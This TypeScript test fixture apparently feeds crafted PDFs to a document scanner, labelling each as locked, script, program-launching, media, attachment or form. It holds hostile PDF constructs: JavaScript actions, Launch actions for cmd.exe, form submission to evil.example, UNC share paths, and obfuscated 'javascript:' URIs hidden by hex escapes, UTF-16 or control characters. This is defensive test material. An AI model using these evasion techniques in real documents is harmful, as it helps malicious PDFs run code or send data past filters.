import { createHash } from 'node:crypto';
import {
  link,
  objectStream,
  packedPdf,
  packings,
  pdf,
  stream,
  text,
  type Expected,
  type SentPdf,
} from './crafted-pdf.ts';

const js = '/S /JavaScript /JS (app.alert\\(1\\))';

function rc4(key: Buffer, data: Buffer): Buffer {
  const state = Array.from({ length: 256 }, (_, index) => index);
  const swap = (a: number, b: number) => ([state[a], state[b]] = [state[b] as number, state[a] as number]);
  for (let i = 0, j = 0; i < 256; i++)
    swap(i, (j = (j + (state[i] as number) + (key[i % key.length] as number)) & 255));
  let [i, j] = [0, 0];
  return data.map((byte) => {
    i = (i + 1) & 255;
    j = (j + (state[i] as number)) & 255;
    swap(i, j);
    return byte ^ (state[((state[i] as number) + (state[j] as number)) & 255] as number);
  }) as Buffer;
}

/** Opens without a password, but forbids printing. */
function lockedForPrinting(): Buffer {
  const padding = Buffer.from('28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a', 'hex');
  const owner = Buffer.alloc(32, 7);
  const permissions = Buffer.alloc(4);
  permissions.writeInt32LE(-64);
  const id = Buffer.alloc(16, 9);
  const key = createHash('md5')
    .update(Buffer.concat([padding, owner, permissions, id]))
    .digest()
    .subarray(0, 5);
  const user = rc4(key, padding);
  const dictionary = `<< /Filter /Standard /V 1 /R 2 /O <${owner.toString('hex')}> /U <${user.toString('hex')}> /P -64 >>`;
  return pdf({
    objects: [dictionary],
    trailer: `/Encrypt 5 0 R /ID [<${id.toString('hex')}> <${id.toString('hex')}>]`,
  });
}

const locked = (dictionary: string) =>
  pdf({ objects: [`<< /Filter /Standard ${dictionary} >>`], trailer: '/Encrypt 5 0 R /ID [<00> <00>]' });
const junk = '<'.concat('5a'.repeat(32), '>');

/** An incremental update: the earlier revision stays in the file. */
const withEarlierScript = () => {
  const first = pdf({ catalog: `/OpenAction << ${js} >>` });
  const place = first.length;
  const added = `1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n`;
  const table = `xref\n1 1\n${String(place).padStart(10, '0')} 00000 n \n`;
  const start = /startxref\n(\d+)/.exec(first.toString('latin1'))?.[1];
  const tail = `trailer\n<< /Size 5 /Root 1 0 R /Prev ${start} >>\nstartxref\n${place + added.length}\n%%EOF\n`;
  return Buffer.concat([first, text(added + table + tail)]);
};

const outline = (action: string) => ({
  catalog: '/Outlines 5 0 R',
  objects: ['<< /First 6 0 R /Last 6 0 R /Count 1 >>', `<< /Title (a) /Parent 5 0 R /A << ${action} >> >>`],
});
const launch = '/S /Launch /F (cmd.exe)';
const away = '/S /URI /URI (https://evil.example)';

/** The same for every place and packing: how a file is written does not change what it does. */
const packed = Object.entries(packings).flatMap(([how, packing]) =>
  [
    ['script', js],
    ['acts', launch],
  ].flatMap(([expected, action = '']): SentPdf[] => [
    [`${action} in the outline, packed ${how}`, packedPdf(outline(action), packing), expected as Expected],
    [`${action} in a link, packed ${how}`, packedPdf({ page: link(action) }, packing), expected as Expected],
  ]),
);

const annotation = (kind: string, more = '') =>
  pdf({ page: `/Annots [<< /Type /Annot /Subtype /${kind} /Rect [0 0 9 9] ${more} >>]` });

/** PDFs that are locked, run scripts, launch programs or embed files. */
export const armedPdfs: SentPdf[] = [
  ['a PDF with a password', locked(`/V 1 /R 2 /O ${junk} /U ${junk} /P -4`), 'locked'],
  ['a PDF with a password, 128 bits', locked(`/V 2 /R 3 /Length 128 /O ${junk} /U ${junk} /P -4`), 'locked'],
  ['a PDF that may not be printed', lockedForPrinting(), 'protected'],

  ['a script at opening', pdf({ catalog: `/OpenAction << ${js} >>` }), 'script'],
  ['a script of the document', pdf({ catalog: `/Names << /JavaScript << /Names [(a) << ${js} >>] >> >>` }), 'script'],
  ['a script when a page is shown', pdf({ page: `/AA << /O << ${js} >> >>` }), 'script'],
  ['a script when the document is closed', pdf({ catalog: `/AA << /WC << ${js} >> >>` }), 'script'],
  ['a script behind a link', pdf({ page: link(js) }), 'script'],
  [
    'a script behind a harmless link',
    pdf({ page: link(`/S /URI /URI (https://example.com) /Next << ${js} >>`) }),
    'script',
  ],
  [
    'a script in a field of a form',
    pdf({
      catalog: '/AcroForm << /Fields [5 0 R] >>',
      page: '/Annots [5 0 R]',
      objects: [`<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /K << ${js} >> >> >>`],
    }),
    'script',
  ],
  [
    'a script in the outline',
    pdf({
      catalog: '/Outlines 5 0 R',
      objects: ['<< /First 6 0 R /Last 6 0 R >>', `<< /Title (a) /Parent 5 0 R /A << ${js} >> >>`],
    }),
    'script',
  ],
  [
    'a script with a spelled-out name',
    pdf({ catalog: '/OpenAction << /#53 /J#61va#53cript /#4A#53 (app.alert\\(1\\)) >>' }),
    'script',
  ],
  [
    'a script with a comment in between',
    pdf({ catalog: '/OpenAction << /S%x\n/JavaScript /JS%y\r(app.alert\\(1\\)) >>' }),
    'script',
  ],
  [
    'a script with a name kept elsewhere',
    pdf({ catalog: '/OpenAction << /S 5 0 R /JS 6 0 R >>', objects: ['/JavaScript', '(app.alert\\(1\\))'] }),
    'script',
  ],
  [
    'a script in a stream',
    pdf({ catalog: '/OpenAction << /S /JavaScript /JS 5 0 R >>', objects: [stream('', text('app.alert(1)'))] }),
    'script',
  ],
  ['a script among compressed objects', pdf({ objects: [objectStream({ 8: `<< ${js} >>` })] }), 'script'],
  [
    'a script among compressed objects that do not say what they are',
    pdf({ objects: [objectStream({ 8: `<< ${js} >>` }, '')] }),
    'script',
  ],
  ['a script that nothing refers to', pdf({ objects: [`<< ${js} >>`] }), 'script'],
  ['a script in an earlier state of the file', withEarlierScript(), 'script'],
  [
    'a script that plays with a film',
    pdf({ catalog: '/OpenAction << /S /Rendition /JS (app.alert\\(1\\)) >>' }),
    'script',
  ],

  ['a program started at opening', pdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }), 'acts'],
  ['a program started by a link', pdf({ page: link('/S /Launch /Win << /F (calc.exe) >>') }), 'acts'],
  ['a program with a spelled-out name', pdf({ page: link('/S /L#61unch /F (calc.exe)') }), 'acts'],
  ['a form that sends what is filled in', pdf({ page: link('/S /SubmitForm /F (https://evil.example)') }), 'acts'],
  ['a form that fetches its content', pdf({ page: link('/S /ImportData /F (data.fdf)') }), 'acts'],
  ['a way into another file', pdf({ page: link('/S /GoToE /T << /R /C /N (a.pdf) >>') }), 'acts'],

  ['a way into a file beside it', pdf({ page: link('/S /GoToR /F (other.pdf) /D [0 /Fit]') }), 'acts'],
  ['a page of the web at opening', pdf({ catalog: `/OpenAction << ${away} >>` }), 'acts'],
  ['another file at opening', pdf({ catalog: '/OpenAction << /S /GoToR /F (\\\\host\\share) /D [0 /Fit] >>' }), 'acts'],
  ['a page of the web when a page is shown', pdf({ page: `/AA << /O << ${away} >> >>` }), 'acts'],
  [
    'a page of the web after a place in the file',
    pdf({ catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [5 0 R] >>`, objects: [`<< ${away} >>`] }),
    'acts',
  ],
  ['an action at opening that nobody knows', pdf({ catalog: '/OpenAction << /S /Whatever >>' }), 'acts'],
  ['a script for an address', pdf({ page: link('/S /URI /URI (JavaScript:app.alert\\(1\\))') }), 'script'],
  ...Object.entries({
    'a tab within': '(java\\tscript:app.alert\\(1\\))',
    'a line break within': '(java\\\nscr\\nipt:app.alert\\(1\\))',
    'a control character in front': '(\\001javascript:app.alert\\(1\\))',
    'a zero in front': '<006a6176617363726970743a61>',
    'letters in UTF-16': `<feff${Buffer.from('javascript:a', 'utf16le').swap16().toString('hex')}>`,
    'letters in UTF-16, the other way round': `<fffe${Buffer.from('javascript:a', 'utf16le').toString('hex')}>`,
    'a mark of UTF-8 in front': '<efbbbf6a6176617363726970743a61>',
    'a tab before its colon': '(javascript\\t:app.alert\\(1\\))',
    'a page as data': '( data:text/html,<script>alert\\(1\\)</script>)',
  }).map(([how, address]): SentPdf => [
    `a script for an address, with ${how}`,
    pdf({ page: link(`/S /URI /URI ${address}`) }),
    'script',
  ]),
  [
    'a script for an address, kept elsewhere',
    pdf({ page: link('/S /URI /URI 5 0 R'), objects: ['(java\\tscript:a)'] }),
    'script',
  ],
  [
    'a script that addresses are relative to',
    pdf({ catalog: '/URI << /Base (javascript:) >>', page: link('/S /URI /URI (app.alert\\(1\\))') }),
    'script',
  ],
  [
    'a script that addresses are relative to, kept elsewhere',
    pdf({
      catalog: '/URI 5 0 R',
      page: link('/S /URI /URI (a)'),
      objects: ['<< /Base 6 0 R >>', '(\\001javascript:)'],
    }),
    'script',
  ],

  ['a film at opening', pdf({ catalog: '/OpenAction << /S /Rendition /OP 0 >>' }), 'media'],
  [
    'a sound at opening',
    pdf({ catalog: '/OpenAction << /S /Sound /Sound 5 0 R >>', objects: [stream('', text('a'))] }),
    'media',
  ],
  ['a film behind a link', pdf({ page: link('/S /Movie /T (a)') }), 'media'],
  ['a moving model behind a link', pdf({ page: link('/S /GoTo3DView /V 0') }), 'media'],
  ['a sound on a page', annotation('Sound'), 'media'],
  ['an old film on a page', annotation('Movie', '/Movie << /F (a.avi) >>'), 'media'],
  ['a screen on a page', annotation('Screen'), 'media'],
  ['a moving model on a page', annotation('3D'), 'media'],
  ...packed,

  [
    'a file inside',
    pdf({
      catalog: '/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>] >> >>',
      objects: [stream('/Type /EmbeddedFile', text('MZ'))],
    }),
    'attachment',
  ],
  [
    'a file pinned to a page',
    pdf({
      page: '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (a.exe) /EF << /F 5 0 R >> >> >>]',
      objects: [stream('', text('MZ'))],
    }),
    'attachment',
  ],
  ['a film', pdf({ page: '/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]' }), 'media'],
  [
    'a file among compressed objects',
    pdf({ objects: [objectStream({ 8: '<< /F (a.exe) /EF << /F 9 0 R >> >>' })] }),
    'attachment',
  ],

  [
    'a form of the kind that only one program shows',
    pdf({ catalog: '/AcroForm << /Fields [] /XFA 5 0 R >>', objects: [stream('', text('<xdp:xdp/>'))] }),
    'form',
  ],
];
